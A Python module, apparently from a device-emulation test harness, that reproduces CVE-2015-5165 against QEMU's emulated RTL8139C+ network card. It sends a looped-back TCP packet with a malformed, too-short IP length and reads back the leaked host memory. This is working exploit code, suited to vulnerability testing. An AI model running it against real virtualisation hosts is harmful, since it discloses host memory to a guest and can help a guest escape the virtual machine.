# SPDX-License-Identifier: GPL-2.0
"""Realtek's RTL8139C+ network card"""

import struct

DEVICES = ("rtl8139,netdev=net,mac=52:54:00:12:34:56",)
BACKENDS = ("-netdev hubport,id=net,hubid=0",)
# The first four bytes of its address
PROBE = 1, 0x0

RX_CONFIG, TX_CONFIG, TX_RING, COMMAND, TX_POLL = 0x44, 0x40, 0x20, 0x37, 0xd9
CPLUS, RX_RING, MAX_SIZE = 0xe0, 0xe4, 0xda
ACCEPT_ALL = 0x3f
LOOP = 0x60000
RX_ON, TX_ON = 8, 4
CPLUS_RX, CPLUS_TX = 2, 1
SEND_NORMAL = 0x40
OWN, END, FIRST, LAST, LARGE = 1 << 31, 1 << 30, 1 << 29, 1 << 28, 1 << 27
SEGMENT = 1400
BUFFER = 2048
SMALLEST = 64
IS_IPV4, PROTOCOL_TCP = 0x45, 6


def cve_2015_5165(guest):
    """A packet whose IP header says that it is shorter than the header is sent to the
    card itself, in segments.  Returns what came back behind the packet."""
    bar = guest.device.bars[1]
    ethernet = b"\xff" * 6 + bytes(6) + struct.pack(">H", 0x0800)
    ip = struct.pack(">BBHHHBBHII", IS_IPV4, 0, 19, 0, 0, 64, PROTOCOL_TCP, 0, 1, 2)
    tcp = struct.pack(">HHIIBBHHH", 1, 2, 0, 0, 5 << 4, 0, 0, 0, 0)
    packet = ethernet + ip + tcp
    count = 48
    buffers = guest.alloc(count * BUFFER)
    ring = b"".join(struct.pack("<IIQ", OWN | BUFFER | (END if i == count - 1 else 0), 0,
                                buffers + i * BUFFER) for i in range(count))
    sent = struct.pack("<IIQ", OWN | END | FIRST | LAST | LARGE | SEGMENT << 16 | len(packet), 0,
                       guest.memory(packet))
    bar.write(COMMAND, RX_ON | TX_ON, 1)
    bar.write(CPLUS, CPLUS_RX | CPLUS_TX, 2)
    bar.write(RX_CONFIG, ACCEPT_ALL)
    bar.write(TX_CONFIG, LOOP)
    bar.write(RX_RING, guest.memory(ring))
    bar.write(TX_RING, guest.memory(sent))
    bar.write(TX_RING + 4, 0)
    bar.write(TX_POLL, SEND_NORMAL, 1)
    guest.wait(0.1)
    # A frame has 64 bytes at least, the last four of which are a checksum.
    got = [guest.get(buffers + i * BUFFER + SMALLEST, BUFFER - SMALLEST) for i in range(count)]
    return b"".join(part for part in got if any(part))
